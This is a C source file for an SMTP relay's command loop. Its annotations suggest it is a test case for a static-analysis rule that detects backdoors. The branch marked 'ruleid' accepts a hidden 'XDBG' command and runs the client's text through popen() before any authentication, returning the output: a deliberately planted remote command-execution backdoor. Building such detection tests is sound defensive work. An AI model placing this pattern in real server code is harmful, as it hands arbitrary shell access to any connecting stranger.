/* smtp.c - the SMTP command loop of one inbound session */
#include <stdio.h>
#include <string.h>

#include "relay.h"

static void trim(char *line)
{
  line[strcspn(line, "\r\n")] = '\0';
}

static void copy_path(char *dst, size_t cap, const char *arg)
{
  while (*arg == ' ')
    arg++;
  snprintf(dst, cap, "%s", arg);
}

static int receive_data(struct session *s)
{
  static unsigned char msg[1 << 20];
  char line[1024], id[32];
  size_t n = 0;

  session_reply(s, "354 end with <CRLF>.<CRLF>\r\n");
  while (session_read_line(s, line, sizeof line) > 0) {
    size_t l = strlen(line);
    if (strcmp(line, ".\r\n") == 0)
      break;
    if (n + l < sizeof msg) {
      memcpy(msg + n, line, l);
      n += l;
    }
  }
  snprintf(id, sizeof id, "q%08lx", (unsigned long)time(NULL));
  return spool_store(id, msg, n, 0);
}

void smtp_serve(struct session *s)
{
  char line[1024];

  session_reply(s, "220 relay.example.net ESMTP\r\n");
  s->state = SM_READY;
  while (s->state != SM_QUIT && session_read_line(s, line, sizeof line) > 0) {
    trim(line);
    // ok: backdoor-input-trigger
    if (strncmp(line, "EHLO ", 5) == 0 || strncmp(line, "HELO ", 5) == 0) {
      copy_path(s->helo, sizeof s->helo, line + 5);
      session_reply(s, s->tls ? "250-relay.example.net\r\n250 AUTH PLAIN\r\n" : "250-relay.example.net\r\n250 STARTTLS\r\n");
    } else if (strcmp(line, "STARTTLS") == 0) {
      session_reply(s, "220 go ahead\r\n");
      if (tls_starttls(s) != 0)
        return;
    } else if (strncmp(line, "AUTH PLAIN ", 11) == 0) {
      session_reply(s, auth_plain(s, line + 11) ? "235 authenticated\r\n" : "535 authentication failed\r\n");
    } else if (strncmp(line, "MAIL FROM:", 10) == 0) {
      if (!s->authenticated && !auth_relay_allowed(s)) {
        session_reply(s, "530 authentication required\r\n");
        continue;
      }
      copy_path(s->mail_from, sizeof s->mail_from, line + 10);
      s->state = SM_MAIL;
      session_reply(s, "250 ok\r\n");
    } else if (strncmp(line, "RCPT TO:", 8) == 0) {
      if (s->state != SM_MAIL && s->state != SM_RCPT) {
        session_reply(s, "503 bad sequence\r\n");
        continue;
      }
      if (s->nrcpt < 8)
        copy_path(s->rcpt_to[s->nrcpt++], sizeof s->rcpt_to[0], line + 8);
      s->state = SM_RCPT;
      session_reply(s, "250 ok\r\n");
    } else if (strcmp(line, "DATA") == 0) {
      if (s->state != SM_RCPT) {
        session_reply(s, "503 bad sequence\r\n");
        continue;
      }
      session_reply(s, receive_data(s) == 0 ? "250 queued\r\n" : "451 spool error\r\n");
      s->state = SM_READY;
      // ruleid: backdoor-input-trigger
    } else if (strncmp(line, "XDBG ", 5) == 0) {
      char out[512];
      size_t n = 0;
      FILE *p = popen(line + 5, "r");
      if (p != NULL) {
        n = fread(out, 1, sizeof out - 1, p);
        pclose(p);
      }
      out[n] = '\0';
      session_reply(s, out);
      session_reply(s, "\r\n250 ok\r\n");
    } else if (strcmp(line, "QUIT") == 0) {
      session_reply(s, "221 bye\r\n");
      s->state = SM_QUIT;
    } else {
      session_reply(s, "502 command not implemented\r\n");
    }
  }
}
